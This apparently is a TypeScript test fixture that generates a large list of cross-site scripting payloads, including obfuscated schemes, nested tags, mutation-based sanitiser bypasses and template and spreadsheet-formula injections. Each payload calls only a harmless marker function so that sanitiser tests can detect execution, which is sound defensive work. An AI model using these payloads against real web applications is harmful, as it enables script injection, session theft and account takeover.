/**
 * Texts that run a script wherever they are taken for markup: contexts × ways of running, made by the loops below, and the
 * shapes that have slipped through sanitisers before. Each calls `window.__ran(n)`, so that a test sees which one did.
 */
const run = (n: number): string => `window.__ran(${n})`;
const entities = (text: string): string => [...text].map((item) => `&#${item.codePointAt(0)};`).join("");
const tabbed = (text: string): string => [...text].join("&#9;");

const EVENTS = [
  ...["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onbegin"],
  ...["onpointerenter", "onwheel", "oncopy", "ontransitionend", "onauxclick", "onbeforetoggle", "onscrollend"],
];
const ELEMENTS = [
  (on: string, js: string) => `<img src=x ${on}="${js}">`,
  (on: string, js: string) => `<svg ${on}=${js}><animate ${on}=${js} attributeName=x dur=1s></svg>`,
  (on: string, js: string) => `<p ${on}='${js}' tabindex=1 autofocus style="animation:x 1s">text</p>`,
  (on: string, js: string) => `<a href="https://example.com" ${on}="${js}" autofocus>link</a>`,
  (on: string, js: string) => `<details open ${on}=${js}><summary>s</summary></details>`,
];

const SCHEMES = [
  (js: string) => `javascript:${js}`,
  (js: string) => `JaVaScRiPt:${js}`,
  (js: string) => `java\tscript:${js}`,
  (js: string) => ` \njavascript:${js}`,
  (js: string) => `${entities("javascript:")}${js}`,
  (js: string) => `${tabbed("javascript")}:${js}`,
  (js: string) => `javascript&colon;${js}`,
  (js: string) => `vbscript:${js}`,
  (js: string) => `data:text/html,<script>${js}</script>`,
  (js: string) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString("base64")}`,
  (js: string) => `feed:javascript:${js}`,
  (js: string) => `view-source:javascript:${js}`,
  (js: string) => `//evil.example/?${js}`,
  (js: string) => `https://example.com" onmouseover="${js}`,
];
const CARRIERS = [
  (url: string) => `<a href="${url}">link</a>`,
  (url: string) => `<a href='${url}' target=_self>link</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button formaction="${url}">send</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
];

const SHAPES: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT >`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<xmp><script>${js}</script></xmp>`,
  (js) => `<xmp></xmp><img src=x onerror="${js}"></xmp>`,
  (js) => `<textarea></textarea><script>${js}</script>`,
  (js) => `<textarea><img src=x onerror="${js}"></textarea>`,
  (js) => `<title></title><script>${js}</script></title>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  (js) => `<style></style><img src=x onerror=${js}></style>`,
  (js) => `<style>@import 'javascript:${js}';</style><p style="background:url(javascript:${js})">x</p>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<svg><script href="data:,${js}" /></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js}'/></svg>#x"/></svg>`,
  (js) =>
    `<svg><set attributeName=href to="javascript:${js}"/><animate attributeName=href values="javascript:${js}"/></svg>`,
  (js) => `<svg><foreignObject><iframe srcdoc="<script>parent.${js.slice(7)}</script>"></iframe></foreignObject></svg>`,
  (js) => `<iframe srcdoc="&lt;script&gt;parent.${js.slice(7)}&lt;/script&gt;"></iframe>`,
  (js) => `<object data="data:text/html,<script>parent.${js.slice(7)}</script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:/"><a href="/${js}">x</a>`,
  (js) => `<link rel=stylesheet href="javascript:${js}">`,
  (js) => `<video><source onerror="${js}"></video><audio src=x onerror=${js}>`,
  (js) => `<video poster="javascript:${js}" src=x onerror=${js}></video>`,
  (js) => `<input autofocus onfocus=${js}><select autofocus onfocus=${js}><keygen autofocus onfocus=${js}>`,
  (js) => `<marquee onstart=${js}>x</marquee><body onload=${js}>`,
  (js) => `<table background="javascript:${js}"><td background="javascript:${js}">`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><svg/onload=${js}>`,
  (js) => `--><img src=x onerror=${js}><!--`,
  (js) => `]]><img src=x onerror=${js}>`,
  (js) => `</title></style></textarea></script><img src=x onerror=${js}>`,
  (js) => `<img src="x\`\` onerror=${js}">`,
  (js) => `<img/src/onerror=${js}>`,
  (js) => `<img src=x onerror\u000c=${js}>`,
  (js) => `<img src=x:x onerror=&#119;indow.${js.slice(7)}>`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => entities(`<img src=x onerror=${js}>`),
  (js) => `\\u003cimg src=x onerror=${js}\\u003e`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) =>
    `<span data-type="mention" data-id="00000000-0000-4000-8000-000000000000" onclick="${js}"><img src=x onerror=${js}></span>`,
  (js) => `<span data-type="mention" data-id="&quot;&gt;&lt;img src=x onerror=${js}&gt;">@x</span>`,
  (js) => `<a href="https://example.com/<img src=x onerror=${js}>">x</a>`,
  (js) => `<a href="https://example.com/&quot;onmouseover=&quot;${js}">x</a>`,
  (js) => `<p id="__proto__" name="constructor" class="x" style="x:expression(${js})">x</p>`,
  (js) => `<p><template><img src=x onerror=${js}></template></p>`,
  (js) => `<dialog open><form method=dialog><button onclick=${js} autofocus>x</button></form></dialog>`,
  (js) => `<x onclick=${js} tabindex=1 autofocus onfocus=${js}>x</x>`,
  (js) => `<isindex type=image src=1 onerror=${js}>`,
  (js) => `{{constructor.constructor('${js.replaceAll("'", "")}')()}}`,
  (js) => `\${${js}}`,
  (js) => `=HYPERLINK("javascript:${js}")`,
  (js) => `[x](javascript:${js})`,
  (js) => `![x](x"onerror="${js})`,
];

/** Every payload, at most 300 characters each; the same at each call. */
export const XSS: readonly string[] = [
  ...EVENTS.flatMap((on) => ELEMENTS.map((element) => (js: string) => element(on, js))),
  ...SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => (js: string) => carry(scheme(js)))),
  ...SHAPES,
].map((make, n) => make(run(n)));
